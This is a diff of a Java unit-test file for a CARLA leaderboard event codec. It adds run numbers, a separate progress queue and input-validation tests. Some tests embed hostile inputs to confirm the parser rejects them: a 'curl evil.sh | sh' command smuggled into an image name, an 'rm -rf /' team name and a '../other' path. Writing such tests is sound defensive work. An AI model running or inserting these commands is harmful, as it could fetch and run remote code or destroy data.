@@ -17,6 +17,7 @@ import org.carla.leaderboard.domain.event.NotLaunched;
 import org.carla.leaderboard.domain.event.Progress;
 import org.carla.leaderboard.domain.event.SubmissionEvent;
 import org.carla.leaderboard.domain.event.SubmissionIdentity;
+import org.carla.leaderboard.domain.event.SubmissionRef;
 import org.carla.leaderboard.domain.track.TrackSpec;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -30,6 +31,7 @@ class EventCodecTests {
             "/workspace/leaderboard/data/routes_testing.xml", 20, 1, 4, "g5.12xlarge", "carla:0.9.15", "lb:20",
             "pod-runtime:1", "vulkan", 172800, 4, false, null, Map.of());
     static final Instant AT = Instant.parse("2026-11-21T10:15:30Z");
+    static final String DIGEST = "0123456789abcdef".repeat(4);
 
     @Test
     void announcementTakesNumbersOrNumericStrings() {
@@ -67,16 +69,16 @@ class EventCodecTests {
 
     @Test
     void launchRequestRoundTrips() {
-        var request = LaunchRequest.of(SUBMISSION, "registry.example.com:5000/team/agent:v1", true, TRACK, AT);
+        var request = LaunchRequest.of(SUBMISSION, 3, "registry.example.com:5000/team/agent:v1", true, TRACK, AT);
         String json = EventCodec.write(request);
-        assertThat(json).contains("\"submission_pk\":4242", "\"image_uri\":", "\"version\":1",
+        assertThat(json).contains("\"submission_pk\":4242", "\"image_uri\":", "\"version\":2", "\"run\":3",
                 "\"requested_at\":\"2026-11-21T10:15:30Z\"");
         assertThat(EventCodec.parseLaunchRequest(json)).isEqualTo(request);
     }
 
     @Test
     void launchRequestRefusesAShellInTheImage() {
-        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, "team/agent:v1", false, TRACK, AT))
+        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT))
                 .replace("team/agent:v1", "team/agent:v1; curl evil.sh | sh");
         assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
                 .isInstanceOfSatisfying(MalformedEventException.class, e -> {
@@ -87,7 +89,7 @@ class EventCodecTests {
 
     @Test
     void launchRequestNamesTheMissingNestedField() {
-        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, "team/agent:v1", false, TRACK, AT))
+        String json = EventCodec.write(LaunchRequest.of(SUBMISSION, 1, "team/agent:v1", false, TRACK, AT))
                 .replace("\"team_name\":\"Team <Rocket>; rm -rf /\",", "");
         assertThatThrownBy(() -> EventCodec.parseLaunchRequest(json))
                 .isInstanceOfSatisfying(MalformedEventException.class, e -> {
@@ -98,7 +100,8 @@ class EventCodecTests {
 
     @Test
     void anUnknownVersionIsRefused() {
-        String json = EventCodec.write(JobStarted.of(SUBMISSION, "job-1", AT)).replace("\"version\":1", "\"version\":2");
+        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("\"version\":2",
+                "\"version\":1");
         assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
                 .isInstanceOfSatisfying(MalformedEventException.class,
                         e -> assertThat(e.reason()).isEqualTo(Reason.UNSUPPORTED_VERSION));
@@ -107,11 +110,11 @@ class EventCodecTests {
     @Test
     void submissionEventsRoundTripWithTheirType() {
         List<SubmissionEvent> events = List.of(
-                JobStarted.of(SUBMISSION, "team-sensors-4242", AT),
-                Progress.of(SUBMISSION, 7, 20, false, Progress.EvalAiFileKeys.under("4242"), AT),
-                JobFinished.of(SUBMISSION, "team-sensors-4242", JobFinished.Outcome.FAILED, "BackoffLimitExceeded", 4,
-                        AT, AT.plusSeconds(60), List.of(new JobFinished.ContainerOutcome("agent-1", 8, 1, "Error")), AT),
-                NotLaunched.of(SUBMISSION, NotLaunched.Reason.NOT_ALLOWED, "SENSORS needs a qualifier", AT));
+                JobStarted.of(SUBMISSION, 2, "team-sensors-4242-r2", AT, AT),
+                JobFinished.of(SUBMISSION, 2, "team-sensors-4242-r2", JobFinished.Outcome.FAILED,
+                        "BackoffLimitExceeded", 4, AT, AT.plusSeconds(60),
+                        List.of(new JobFinished.ContainerOutcome("agent-1", 8, 1, "Error", AT.plusSeconds(59))), AT),
+                NotLaunched.of(SUBMISSION, 1, NotLaunched.Reason.NOT_ALLOWED, "SENSORS needs a qualifier", AT));
         for (SubmissionEvent event : events) {
             String json = EventCodec.write(event);
             assertThat(json).contains("\"type\":\"" + event.type() + "\"");
@@ -121,7 +124,8 @@ class EventCodecTests {
 
     @Test
     void anUnknownEventTypeIsRefused() {
-        String json = EventCodec.write(JobStarted.of(SUBMISSION, "job-1", AT)).replace("job-started", "job-exploded");
+        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("job-started",
+                "job-exploded");
         assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
                 .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                     assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE);
@@ -130,10 +134,68 @@ class EventCodecTests {
     }
 
     @Test
-    void aWrongTypeNamesTheField() {
-        String json = EventCodec.write(Progress.of(SUBMISSION, 7, 20, false, Progress.EvalAiFileKeys.under("4242"), AT))
-                .replace("\"routes_done\":7", "\"routes_done\":\"seven\"");
+    void everyEventSaysWhichRunItIsAbout() {
+        String json = EventCodec.write(JobStarted.of(SUBMISSION, 1, "job-1", AT, AT)).replace("\"run\":1,", "");
         assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(json))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> assertThat(e.field()).isEqualTo("run"));
+        String zero = EventCodec.write(NotLaunched.of(SUBMISSION, 1, NotLaunched.Reason.CANCELLED, "", AT))
+                .replace("\"run\":1", "\"run\":0");
+        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(zero))
+                .isInstanceOfSatisfying(MalformedEventException.class, e -> {
+                    assertThat(e.reason()).isEqualTo(Reason.INVALID_VALUE);
+                    assertThat(e.field()).isEqualTo("run");
+                });
+    }
+
+    @Test
+    void progressRoundTripsOnItsOwnQueueAndCarriesNoTeamName() {
+        var progress = Progress.of(SubmissionRef.of(SUBMISSION), 2, 7, 20, false, DIGEST, false, null, List.of(), AT);
+        String json = EventCodec.write(progress);
+        assertThat(json).contains("\"type\":\"progress\"", "\"run\":2", "\"team_id\":99")
+                .doesNotContain("team_name", "Rocket");
+        assertThat(EventCodec.parseProgress(json)).isEqualTo(progress);
+        var last = Progress.of(SubmissionRef.of(SUBMISSION), 2, 20, 20, true, DIGEST, false, Progress.Ending.FINISHED,
+                List.of("agent/agent1/huge.log"), AT);
+        assertThat(EventCodec.parseProgress(EventCodec.write(last))).isEqualTo(last);
+    }
+
+    @Test
+    void aLifecycleEventOnTheProgressQueueIsRefused() {
+        String json = EventCodec.write(JobFinished.of(SUBMISSION, 1, "job-1", JobFinished.Outcome.SUCCEEDED, null, 1,
+                AT, AT, List.of(), AT));
+        assertThatThrownBy(() -> EventCodec.parseProgress(json))
+                .isInstanceOfSatisfying(MalformedEventException.class,
+                        e -> assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE));
+        String progress = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 0, 4, false, DIGEST, true, null,
+                List.of(), AT));
+        assertThatThrownBy(() -> EventCodec.parseSubmissionEvent(progress))
+                .isInstanceOfSatisfying(MalformedEventException.class,
+                        e -> assertThat(e.reason()).isEqualTo(Reason.UNKNOWN_TYPE));
+    }
+
+    @Test
+    void aProgressReportNamesNoLeaderboardOutsideTheIdentifierAlphabet() {
+        String json = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 0, 4, false, DIGEST, true, null,
+                List.of(), AT)).replace("leaderboard-20", "../other");
+        assertThatThrownBy(() -> EventCodec.parseProgress(json))
+                .isInstanceOfSatisfying(MalformedEventException.class,
+                        e -> assertThat(e.field()).isEqualTo("submission.leaderboard"));
+    }
+
+    @ParameterizedTest(name = "team name with {0}")
+    @CsvSource({ "U+FFFE,\uFFFE", "U+FFFF,\uFFFF", "a lone surrogate,\uD800", "NUL,\u0000", "an emoji,\uD83D\uDE97" })
+    void everyEventIsPlainAsciiSoSqsTakesAnyTeamNameEvalAiAllows(String what, String character) {
+        var team = new SubmissionIdentity(4242, 17, 2077, 99, "team" + character + "name", "leaderboard-20", "SENSORS");
+        String json = EventCodec.write(LaunchRequest.of(team, 1, "team/agent:v1", false, TRACK, AT));
+        assertThat(json.chars()).allMatch(c -> c >= 0x20 && c < 0x7f);
+        assertThat(EventCodec.parseLaunchRequest(json).submission().teamName()).isEqualTo(team.teamName());
+    }
+
+    @Test
+    void aWrongTypeNamesTheField() {
+        String json = EventCodec.write(Progress.of(SubmissionRef.of(SUBMISSION), 1, 7, 20, false, DIGEST, false, null,
+                List.of(), AT)).replace("\"routes_done\":7", "\"routes_done\":\"seven\"");
+        assertThatThrownBy(() -> EventCodec.parseProgress(json))
                 .isInstanceOfSatisfying(MalformedEventException.class, e -> {
                     assertThat(e.reason()).isEqualTo(Reason.WRONG_TYPE);
                     assertThat(e.field()).isEqualTo("routes_done");
